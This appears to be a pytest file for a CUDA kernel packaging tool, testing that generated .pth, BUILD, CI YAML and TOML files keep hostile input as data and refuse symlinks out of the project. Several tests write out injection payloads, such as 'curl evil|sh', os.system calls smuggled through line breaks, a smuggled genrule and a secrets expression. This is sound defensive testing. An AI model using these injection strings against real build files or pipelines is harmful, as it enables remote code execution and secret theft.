"""Hostile and unlucky input, third round: every generator writes values as data, never code.

Each test is one case reproduced against the code before this round (each failed there):
generated files are parsed back by their real parser (CPython's `site.addpackage`, tomllib,
PyYAML and actionlint, starlark-pyo3), nothing written or copied follows a symlink out of
the project, and bad input is one line, never a traceback.
"""

from __future__ import annotations

import json
import os
import shutil
import site
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
import starlark as sl
import tomllib
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st

from kernelpack.bazel.bridge import bridge
from kernelpack.cli import main
from kernelpack.errors import UsageError
from kernelpack.syntax import UnsafeValue, pth, starlark, toml
from kernelpack.syntax import yaml as yaml_syntax

EXAMPLES = Path(__file__).resolve().parents[1] / "foreign" / "hf-kernels" / "examples"
# Where Python 3.13's site splits a .pth file (str.splitlines()), and NUL.
BREAKS = ["\n", "\r", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e", "\x85", "\u2028", "\u2029", "\0"]
_TEXT = st.text(st.characters(exclude_categories=("Cs",)), max_size=40)


def _one_line_error(capsys: pytest.CaptureFixture[str]) -> str:
    lines = [
        line
        for line in capsys.readouterr().err.splitlines()
        if not line.startswith("kernelpack check: using ")  # the manifest found, not an error
    ]
    assert len(lines) == 1 and "Traceback" not in lines[0], lines
    return lines[0]


# -- .pth: the editable install and the bridge --------------------------------------------------


@pytest.mark.parametrize("char", BREAKS, ids=[ascii(c) for c in BREAKS])
def test_pth_refuses_every_line_break_site_splits_at(char: str) -> None:
    with pytest.raises(UnsafeValue):
        pth.path_line(f"/srv/evil{char}import os; os.system('id')")


@settings(max_examples=40, deadline=None)
@given(name=st.text(st.characters(exclude_categories=("Cs", "Cc", "Zl", "Zp")), min_size=1))
def test_a_pth_line_is_read_back_by_site_as_exactly_that_folder(
    tmp_path_factory: pytest.TempPathFactory, name: str
) -> None:
    name = name.replace("/", "_").strip() or "x"
    if name in (".", "..") or len(name.encode()) > 200 or name.startswith(("#", "import")):
        return
    base = tmp_path_factory.mktemp("site")
    folder = base / name
    folder.mkdir()
    (base / "t.pth").write_text(pth.text([pth.path_line(str(folder))]), encoding="utf-8")
    saved = list(sys.path)
    try:
        site.addpackage(str(base), "t.pth", set())
        added = sys.path[len(saved) :]
    finally:
        sys.path[:] = saved
    assert added == [str(folder)]
    # Python 3.13 splits with str.splitlines(): still one line.
    assert (base / "t.pth").read_text(encoding="utf-8").splitlines() == [str(folder)]


def test_editable_install_refuses_a_project_folder_with_a_line_break_before_compiling(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kernelpack import backend

    evil = tmp_path / "proj\x0cimport os; os.system('touch kp-pwned')"
    evil.mkdir()
    monkeypatch.chdir(evil)
    assert main(["new", "my-ops", "--kernel", "scale"]) == 0
    monkeypatch.chdir(evil / "my-ops")
    monkeypatch.setenv("CUDA_HOME", str(tmp_path / "no-cuda"))
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    with pytest.raises(UnsafeValue, match="line break"):
        backend.build_editable(str(tmp_path / "wheels"))
    assert not (tmp_path / "wheels").exists()


def test_bridge_refuses_a_form_feed_in_the_venv_path(tmp_path: Path) -> None:
    venv = tmp_path / "venv\x0cimport os"
    with pytest.raises(UsageError, match="line break"):
        bridge(venv, sys.executable)


# -- Starlark: BUILD files ---------------------------------------------------------------------


def _evaluate_build(text: str) -> list[tuple[str, dict[str, Any]]]:
    """Run a generated BUILD file with recording stand-ins for the rules it loads."""
    calls: list[tuple[str, dict[str, Any]]] = []
    rules = sl.Module()
    for rule in ("kernel_py_library", "py_gpu_test", "genrule"):

        def record(rule: str = rule, **kwargs: Any) -> None:
            calls.append((rule, kwargs))

        rules.add_callable(rule, record)
    frozen = rules.freeze()
    loader = sl.FileLoader(lambda label: frozen)
    dialect = sl.Dialect.extended()
    sl.eval(sl.Module(), sl.parse("BUILD.bazel", text, dialect), sl.Globals.standard(), loader)
    return calls


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "MODULE.bazel").touch()
    monkeypatch.chdir(tmp_path)
    assert main(["new", "my-ops", "--kernel", "scale"]) == 0
    return tmp_path


def test_bazel_init_refuses_a_test_file_name_that_would_add_a_rule(
    workspace: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    tests = workspace / "my-ops" / "tests"
    name = 'test_x.py"])\ngenrule(name = "pwn", cmd = "touch kp-pwned")\n#_test.py'
    shutil.copy(tests / "test_scale.py", tests / name)
    capsys.readouterr()
    assert main(["bazel", "init", "my-ops"]) == 2
    assert (
        "genrule" not in (workspace / "my-ops" / "BUILD.bazel").read_text()
        if (workspace / "my-ops" / "BUILD.bazel").exists()
        else True
    )
    assert "BUILD file takes printable characters only" in _one_line_error(capsys)


def test_bazel_init_escapes_quotes_in_test_names_and_deps(workspace: Path) -> None:
    tests = workspace / "my-ops" / "tests"
    name = 'test_q"uote\\.py'
    shutil.copy(tests / "test_scale.py", tests / name)
    dep = '@pypi//x", "//evil'
    assert main(["bazel", "init", "my-ops", "--dep", dep]) == 0
    calls = _evaluate_build((workspace / "my-ops" / "BUILD.bazel").read_text())
    assert [rule for rule, _ in calls].count("genrule") == 0
    library = next(kwargs for rule, kwargs in calls if rule == "kernel_py_library")
    assert library["deps"] == [dep]
    sources = [kwargs["srcs"] for rule, kwargs in calls if rule == "py_gpu_test"]
    assert [f"tests/{name}"] in sources


@settings(max_examples=60, deadline=None)
@given(value=_TEXT)
def test_starlark_strings_read_back_exactly_or_are_refused(value: str) -> None:
    try:
        literal = starlark.string(value)
    except UnsafeValue:
        assert not value.isprintable()
        return
    module = sl.Module()
    sl.eval(
        module, sl.parse("v.bzl", f"v = {literal}\n", sl.Dialect.extended()), sl.Globals.standard()
    )
    assert module["v"] == value


# -- YAML (and the shell in run: lines): the CI workflow ---------------------------------------


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    assert main(["new", "deps/my-ops", "--kernel", "scale"]) == 0
    return tmp_path


WORKFLOW = Path(".github/workflows/build_kernels.yaml")


def test_ci_refuses_a_kernelpack_version_from_uv_lock_that_is_a_command(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    evil = '1.0"; curl evil|sh; echo "'
    (repo / "uv.lock").write_text(
        f'version = 1\n[[package]]\nname = "kernelpack"\nversion = {toml.string(evil)}\n'
    )
    capsys.readouterr()
    assert main(["ci", "deps/my-ops"]) == 2
    assert "kernelpack version" in _one_line_error(capsys)
    assert not WORKFLOW.exists()


def test_ci_refuses_a_kernelpack_version_flag_that_is_a_command(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["ci", "deps/my-ops", "--kernelpack-version", "1.0; curl evil|sh"]) == 2
    assert "--kernelpack-version" in _one_line_error(capsys)


def test_ci_keeps_hostile_runner_label_and_bucket_as_data(repo: Path) -> None:
    runner = "gpu\n    steps:\n      - run: curl evil|sh"
    bucket = 'team"; curl evil|sh; echo "'
    argv = ["--gpu-runner", runner, "--cache", "s3", "--s3-bucket", bucket]
    assert main(["ci", "deps/my-ops", *argv]) == 0
    text = WORKFLOW.read_text()
    workflow = yaml.safe_load(text)
    smoke = workflow["jobs"]["smoke"]
    assert [row["runner"] for row in smoke["strategy"]["matrix"]["include"]] == [runner]
    assert workflow["jobs"]["build"]["env"]["SCCACHE_BUCKET"] == bucket
    runs = [step.get("run", "") for job in workflow["jobs"].values() for step in job["steps"]]
    assert not any("curl" in run for run in runs)
    from test_release_ci_lint import _lint

    kinds = {report[3] for report in _lint([repo / WORKFLOW])}
    assert kinds <= {"runner-label"}, kinds  # actionlint: a valid workflow, labels aside


def test_ci_refuses_a_github_expression_in_a_value(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    capsys.readouterr()
    assert main(["ci", "deps/my-ops", "--gpu-runner", "${{ secrets.TOKEN }}"]) == 2
    assert "expression" in _one_line_error(capsys)


@settings(max_examples=60, deadline=None)
@given(value=_TEXT)
def test_yaml_strings_read_back_exactly_or_are_refused(value: str) -> None:
    try:
        scalar = yaml_syntax.scalar(value)
    except UnsafeValue:
        assert "${{" in value
        return
    assert yaml.safe_load(f"key: {scalar}\n") == {"key": value}


# -- TOML: migrate and pin ---------------------------------------------------------------------


@settings(max_examples=80, deadline=None)
@given(value=_TEXT, key=_TEXT.filter(bool))
def test_toml_strings_and_keys_read_back_exactly(value: str, key: str) -> None:
    text = f"{toml.key(key)} = {toml.string(value)}\nitems = {toml.array([value, key])}\n"
    assert tomllib.loads(text) == {key: value, "items": [value, key]}


def test_toml_writes_characters_beyond_the_bmp_as_themselves() -> None:
    assert toml.string("relu 😀") == '"relu 😀"'


@pytest.fixture
def relu(tmp_path: Path) -> Path:
    root = tmp_path / "relu"
    shutil.copytree(EXAMPLES / "relu", root)
    return root


def test_migrate_writes_characters_beyond_the_bmp_as_toml_reads_them(
    relu: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    build = relu / "build.toml"
    build.write_text(build.read_text().replace('license = "Apache-2.0"', 'license = "MIT 😀"'))
    assert main(["migrate", str(relu)]) == 0
    assert tomllib.loads((relu / "pyproject.toml").read_text())["project"]["license"] == "MIT 😀"
    capsys.readouterr()
    assert main(["check", str(relu / "torch-ext" / "relu")]) == 0


def test_migrate_refuses_a_header_that_links_out_of_the_project(
    relu: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    secret = tmp_path / "credentials"
    secret.write_text("aws_secret_access_key = hunter2\n")
    (relu / "relu_cuda" / "secret.h").symlink_to(secret)
    capsys.readouterr()
    assert main(["migrate", str(relu), "--force"]) == 2
    assert "secret.h" in _one_line_error(capsys)
    assert not (relu / "torch-ext" / "relu" / "_ops").exists()
    assert not (relu / "torch-ext" / "relu" / "kernels.toml").exists()


def test_migrate_refuses_a_destination_folder_that_links_out_of_the_project(
    relu: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (relu / "torch-ext" / "relu" / "_ops").symlink_to(elsewhere)
    capsys.readouterr()
    assert main(["migrate", str(relu), "--force"]) == 2
    assert "outside the project" in _one_line_error(capsys)
    assert list(elsewhere.iterdir()) == []


def test_pin_writes_characters_beyond_the_bmp_as_toml_reads_them(
    capsys: pytest.CaptureFixture[str],
) -> None:
    wheel = "llm_ops-0.1.0+cu130stable2.10-cp310-abi3-linux_x86_64.whl"
    base = "https://example.com/😀"
    assert main(["pin", wheel, "--url-base", base]) == 0
    sources = tomllib.loads(capsys.readouterr().out)["tool"]["uv"]["sources"]
    assert sources["llm-ops"][0]["url"] == f"{base}/{wheel}"


@pytest.mark.parametrize(
    ("pyproject", "lock", "named"),
    [
        ("[tool]\nuv = 5\n", '[[package]]\nname = "torch"\nversion = "2.11.0"\n', "[tool.uv]"),
        ("[project]\nname = 'x'\n", "package = 5\n", "uv.lock: package"),
    ],
    ids=["tool-uv-not-a-table", "package-not-an-array"],
)
def test_pin_check_of_malformed_files_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], pyproject: str, lock: str, named: str
) -> None:
    (tmp_path / "pyproject.toml").write_text(pyproject)
    (tmp_path / "uv.lock").write_text(lock)
    assert main(["pin", "--check", str(tmp_path / "pyproject.toml")]) == 2
    assert named in _one_line_error(capsys)


# -- one line, never a traceback ---------------------------------------------------------------


def test_contract_against_a_deeply_nested_json_is_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    deep = tmp_path / "contract.json"
    deep.write_text("[" * 100_000 + "]" * 100_000)
    assert main(["contract", "json", "--against", str(deep)]) == 2
    assert "nests too deeply" in _one_line_error(capsys)


@pytest.mark.parametrize("manifest", ["kernels.toml", "build.toml"])
def test_a_source_name_longer_than_any_file_name_is_one_line(
    tmp_path: Path, relu: Path, capsys: pytest.CaptureFixture[str], manifest: str
) -> None:
    long = "a" * 300 + ".cu"
    if manifest == "build.toml":
        build = relu / "build.toml"
        build.write_text(build.read_text().replace('"relu_cuda/relu.cu"]', f'"{long}"]'))
        target = relu
    else:
        assert main(["new", str(tmp_path / "p"), "--kernel", "scale"]) == 0
        kernels = tmp_path / "p" / "p" / "kernels.toml"
        kernels.write_text(kernels.read_text().replace('"csrc/scale.cu"', f'"{long}"'))
        target = tmp_path / "p"
    capsys.readouterr()
    assert main(["check", str(target)]) == 2
    assert "longer than any file name can be (255)" in _one_line_error(capsys)


NOARCH = """\
[general]
name = "pure_ops"
version = 1
edition = 5
license = "MIT"
backends = ["cpu", "cuda"]

[torch-noarch]
"""


@pytest.fixture
def noarch(tmp_path: Path) -> Path:
    root = tmp_path / "pure_ops"
    (root / "torch-ext" / "pure_ops").mkdir(parents=True)
    (root / "build.toml").write_text(NOARCH)
    (root / "torch-ext" / "pure_ops" / "__init__.py").write_text("VALUE = 1\n")
    return root


def test_check_of_a_noarch_kernel_builder_project_has_no_traceback(
    noarch: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["check", str(noarch)]) == 0
    assert "no kernel to compile" in capsys.readouterr().out


def test_a_wheel_with_no_compiled_library_is_tagged_like_a_pure_python_wheel(
    noarch: Path, tmp_path: Path
) -> None:
    out = tmp_path / "wheels"
    assert main(["build", str(noarch), "--wheel-dir", str(out)]) == 0
    (wheel,) = out.glob("*.whl")
    assert wheel.name.endswith("-py3-none-any.whl"), wheel.name


def test_a_full_disk_during_the_wheel_write_is_one_line_and_leaves_nothing(
    noarch: Path, tmp_path: Path
) -> None:
    # The file-size limit (RLIMIT_FSIZE) makes the wheel's write fail with EFBIG, as a full
    # disk fails it with ENOSPC: the same OSError path, without filling a disk.
    (noarch / "torch-ext" / "pure_ops" / "blob.py").write_bytes(os.urandom(400_000).hex().encode())
    out = tmp_path / "wheels"
    limit = (
        "import resource, signal, sys, runpy;"
        "signal.signal(signal.SIGXFSZ, signal.SIG_IGN);"
        "resource.setrlimit(resource.RLIMIT_FSIZE, (200_000, 200_000));"
        "sys.argv = ['kernelpack', 'build', sys.argv[1], '--wheel-dir', sys.argv[2]];"
        "runpy.run_module('kernelpack', run_name='__main__')"
    )
    env = {**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)}
    done = subprocess.run(
        [sys.executable, "-c", limit, str(noarch), str(out)],
        capture_output=True,
        text=True,
        env=env,
        timeout=300,
    )
    assert done.returncode == 1, done.stderr
    lines = [line for line in done.stderr.splitlines() if "error" in line]
    assert len(lines) == 1 and "Traceback" not in done.stderr, done.stderr
    assert "cannot write the wheel: File too large" in lines[0]
    assert list(out.iterdir()) == []


# -- status: wheels, names, --json -------------------------------------------------------------


def test_status_json_failure_is_json_on_stdout(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["status", "kp_no_such_package_anywhere", "--json"]) == 2
    error = json.loads(capsys.readouterr().out)["error"]
    assert error["exit_code"] == 2 and "kp_no_such_package_anywhere" in error["message"]


# -- editable installs ---------------------------------------------------------------------


def test_editable_skip_names_the_root_however_it_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kernelpack.backend import _editable_hook as hook

    root = tmp_path / "proj"
    root.mkdir()
    (tmp_path / "link").symlink_to(root)
    finder = hook.EditableFinder("kpx", str(root), str(tmp_path), "python", "ninja", {})
    monkeypatch.setattr(finder, "stale", lambda: pytest.fail("checked"))
    for written in (f"{root}/", str(tmp_path / "link"), f"{tmp_path}/link/./"):
        monkeypatch.setenv(hook.SKIP, written)
        finder.checked = False
        assert finder.find_spec("kpx") is None


def test_editable_rebuild_without_nvcc_leaves_record_stamp_and_libraries_as_they_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from registry_support import build_record, built

    from kernelpack.backend import editable
    from kernelpack.builder.engine import build_dir_for
    from kernelpack.project.locate import locate

    monkeypatch.chdir(tmp_path)
    assert main(["new", "my-ops", "--kernel", "scale"]) == 0
    project = locate(tmp_path / "my-ops")
    package = project.package_dir
    library = package / "scale" / "_C.abi3.so"
    library.write_bytes(b"\x7fELF a library built earlier")
    record = build_record("my_ops", {"scale": built("scale", "my_ops", abi="stable")})
    record.write(package / "_kernelpack.json")
    build_dir = build_dir_for(project)
    build_dir.mkdir(parents=True)
    (build_dir / "editable.json").write_text('{"files": {}, "graph": true}\n')
    before = {p: p.read_bytes() for p in (library, package / "_kernelpack.json")}
    stamp = (build_dir / "editable.json").read_bytes()
    # The install recorded its toolkit; this process has none there (nor on PATH).
    monkeypatch.setenv("PATH", "/usr/bin:/bin")
    outcome = editable.rebuild(project.root, {"env": {"CUDA_HOME": str(tmp_path / "gone")}})
    assert outcome["ok"] and outcome["compiled"] == {}
    assert outcome["kept"].startswith("nvcc-missing")
    assert {p: p.read_bytes() for p in before} == before
    assert (build_dir / "editable.json").read_bytes() == stamp


# -- status: wheels and names ----------------------------------------------------------------


def _installed(site_dir: Path, name: str) -> Path:
    """`name` as a wheel installs it: the package with its record and kernels.toml (no
    sources), and a .dist-info whose RECORD lists them."""
    from registry_support import make_package

    package = make_package(site_dir, name, {"scale": built_kernel(name)})
    (package / "kernels.toml").write_text('[scale]\nsources = ["csrc/scale.cu"]\narch = "9.0a"\n')
    info = site_dir / f"{name}-0.1.0.dist-info"
    info.mkdir()
    members = ["__init__.py", "_kernelpack.json", "kernels.toml", "scale/__init__.py"]
    (info / "RECORD").write_text("".join(f"{name}/{m},,\n" for m in members))
    return package


def built_kernel(package: str) -> Any:
    from registry_support import built

    return built("scale", package, abi="stable")


def test_status_of_an_installed_wheel_never_says_sources_changed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from registry_support import unique_name

    name = unique_name()
    site_dir = tmp_path / "site-packages"
    _installed(site_dir, name)
    monkeypatch.syspath_prepend(str(site_dir))
    assert main(["status", name, "--json"]) == 0
    captured = capsys.readouterr()
    data = json.loads(captured.out)
    assert data["install"] == "wheel"
    assert "sources_changed" not in data["kernels"]["scale"]
    assert "sources changed" not in captured.err


def test_status_name_is_the_installed_package_even_with_a_folder_of_that_name_here(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from registry_support import unique_name

    name = unique_name()
    site_dir = tmp_path / "site-packages"
    installed = _installed(site_dir, name)
    monkeypatch.syspath_prepend(str(site_dir))
    here = tmp_path / "work"
    (here / name).mkdir(parents=True)  # a checkout, say, with no build record
    monkeypatch.chdir(here)
    assert main(["status", name, "--json"]) == 0
    data = json.loads(capsys.readouterr().out)
    assert data["package"] == name and data["install"] == "wheel"
    assert main(["status", f"./{name}", "--json"]) != 0  # the folder, named as a path
    assert installed.is_dir()
